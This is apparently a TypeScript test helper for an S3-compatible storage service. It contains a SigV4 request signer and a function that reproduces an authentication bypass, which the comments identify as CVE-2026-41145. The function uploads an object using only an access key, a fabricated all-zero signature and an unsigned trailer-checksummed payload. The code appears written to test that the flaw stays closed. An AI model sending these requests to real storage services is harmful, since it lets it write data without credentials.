import { createHash, createHmac } from 'node:crypto';
import { crc32 } from 'node:zlib';

/** An object store and one of its users. */
export interface S3 {
  endpoint: string;
  access_key: string;
  secret_key: string;
}

const REGION = 'us-east-1';
const sha256 = (data: string | Uint8Array) => createHash('sha256').update(data).digest('hex');
const hmac = (key: string | Uint8Array, data: string) => createHmac('sha256', key).update(data).digest();

/**
 * A request signed with SigV4 by nothing but `node:crypto`: tests of what stands before the store send what no client
 * would. `target` is path and query, encoded and in order.
 */
export async function signedFetch(
  s3: S3,
  method: string,
  target: string,
  options: { body?: string; headers?: Record<string, string>; service?: 's3' | 'sts' } = {},
): Promise<{ status: number; text: string; headers: Headers }> {
  const { body = '', service = 's3' } = options;
  const { host } = new URL(s3.endpoint);
  const [path, query = ''] = target.split('?') as [string, string?];
  const date = amzDate();
  const headers: Record<string, string> = {
    ...options.headers,
    'x-amz-content-sha256': sha256(body),
    'x-amz-date': date,
  };
  const signed: Record<string, string> = { ...headers, host };
  const names = Object.keys(signed).sort();
  const canonical = [
    method,
    path,
    query
      .split('&')
      .filter(Boolean)
      .map((pair) => (pair.includes('=') ? pair : `${pair}=`))
      .sort()
      .join('&'),
    ...names.map((name) => `${name}:${signed[name]}`),
    '',
    names.join(';'),
    sha256(body),
  ].join('\n');
  const scope = `${date.slice(0, 8)}/${REGION}/${service}/aws4_request`;
  const key = [date.slice(0, 8), REGION, service, 'aws4_request'].reduce<string | Uint8Array>(
    hmac,
    `AWS4${s3.secret_key}`,
  );
  const signature = hmac(key, ['AWS4-HMAC-SHA256', date, scope, sha256(canonical)].join('\n')).toString('hex');
  const authorization = `AWS4-HMAC-SHA256 Credential=${s3.access_key}/${scope}, SignedHeaders=${names.join(';')}, Signature=${signature}`;
  const response = await fetch(`${s3.endpoint}${target}`, {
    method,
    headers: { ...headers, authorization },
    ...(body ? { body } : {}),
  });
  return { status: response.status, text: await response.text(), headers: response.headers };
}

/**
 * The upload that nothing signs (CVE-2026-41145): credentials in the query, a payload covered by no signature, its
 * checksum in a trailer, and a signature that is made up. It takes an access key and no secret.
 */
export async function uploadUnsigned(
  endpoint: string,
  access_key: string,
  path: string,
  body: string,
  where: 'header' | 'query' = 'header',
): Promise<{ status: number; text: string }> {
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(body));
  const payload = `${body.length.toString(16)}\r\n${body}\r\n0\r\nx-amz-checksum-crc32:${checksum.toString('base64')}\r\n\r\n`;
  const date = amzDate();
  const unsigned = { 'x-amz-content-sha256': 'STREAMING-UNSIGNED-PAYLOAD-TRAILER' };
  const query = new URLSearchParams({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `${access_key}/${date.slice(0, 8)}/${REGION}/s3/aws4_request`,
    'X-Amz-Date': date,
    'X-Amz-Expires': '600',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': '0'.repeat(64),
    ...(where === 'query' ? unsigned : {}),
  });
  const ask = () =>
    fetch(`${endpoint}${path}?${query}`, {
      method: 'PUT',
      headers: {
        ...(where === 'header' ? unsigned : {}),
        'x-amz-trailer': 'x-amz-checksum-crc32',
        'x-amz-decoded-content-length': String(body.length),
        'content-encoding': 'aws-chunked',
      },
      body: payload,
    });
  // Who refuses before the body is read closes the connection: where the body meets that, the answer is lost.
  const response = await ask().catch(ask).catch(ask);
  return { status: response.status, text: await response.text() };
}

function amzDate(): string {
  return new Date().toISOString().replaceAll(/[-:]|\.\d+/g, '');
}
